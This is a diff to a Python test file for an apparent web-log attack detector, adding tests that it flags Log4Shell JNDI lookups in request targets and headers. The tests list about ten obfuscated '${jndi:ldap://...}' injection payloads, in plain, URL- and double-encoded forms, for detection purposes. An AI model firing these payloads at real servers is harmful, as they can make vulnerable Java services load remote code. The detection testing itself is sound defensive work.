@@ -15,6 +15,7 @@ import time
 import tracemalloc
 import zlib
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 from conftest import within
@@ -447,6 +448,29 @@ def test_a_path_or_client_a_line_long_is_cut_in_the_result(tmp_path):
     assert len(texts) == 10 + 10 + 5 * 5
     assert {len(t) for t in texts} == {weblog.SAMPLE_CHARS}
     assert len(json.dumps(result)) < 300_000
+
+
+@pytest.mark.parametrize("lookup", [
+    "${jndi:ldap://x/a}", "${${lower:j}ndi:ldap://x/a}", "${${::-j}${::-n}di:rmi://x/a}",
+    "${j${env:X:-n}di:ldap://x/a}", "${jn${date:}di:ldap://x/a}",
+    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x/a}",
+    "${${k8s:k5:-J}${k8s:k5:-ND}i:ldap://x/a}", "${${main:\\k5:-Jnd}i:ldap://x/a}",
+    "${${zrch-Q(NGyN-yLkV-longer:-}j${sm:E:-ndi}:ldap://x/a}", "${${base64:am5kaQ==}:ldap://x}",
+])
+@pytest.mark.parametrize("encoding", ["plain", "url", "double"])
+def test_a_log4j_lookup_in_the_target_is_java_however_it_hides_its_name(lookup, encoding):
+    """The target's Java pattern knew five lookup names: a name built of date, k8s, main
+    or a made-up lookup's default (the public Log4Shell bypass lists) passed, while the
+    same text in the User-Agent was a finding. A template's unrendered ${...} is none."""
+    text = {"plain": lookup, "url": quote(lookup, safe=""),
+            "double": quote(quote(lookup, safe=""), safe="")}[encoding]
+    assert "java" in patterns.target_categories(f"/?x={text}".encode())
+    assert patterns.header_injection(lookup.encode())
+
+
+@pytest.mark.parametrize("target", ["/img/${item.src}", "/?q=${query}&p=${page}", "/${a}/${b}"])
+def test_an_unrendered_template_in_the_target_is_no_lookup(target):
+    assert patterns.target_categories(target.encode()) == ()
 
 
 def lines(n: int, hour: int, ip: str = "36.2.2.2") -> str:
